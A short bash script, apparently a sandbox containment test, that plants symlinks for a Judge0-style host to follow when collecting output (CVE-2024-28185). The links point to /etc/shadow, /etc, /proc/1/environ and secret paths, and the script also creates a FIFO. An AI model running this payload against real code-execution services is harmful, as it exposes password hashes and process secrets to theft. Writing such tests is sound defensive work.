#!/bin/bash
# Links planted for the host to follow when it collects files (Judge0 CVE-2024-28185).
ln -s /etc/shadow out
ln -s "$SECRET_PATH" out2
ln -s "$TMP_SENTINEL" out3
ln -s /etc out4
mkdir dir && ln -s /etc/shadow dir/shadow
ln -s /proc/1/environ out5
mkfifo fifo
echo CONTAINED
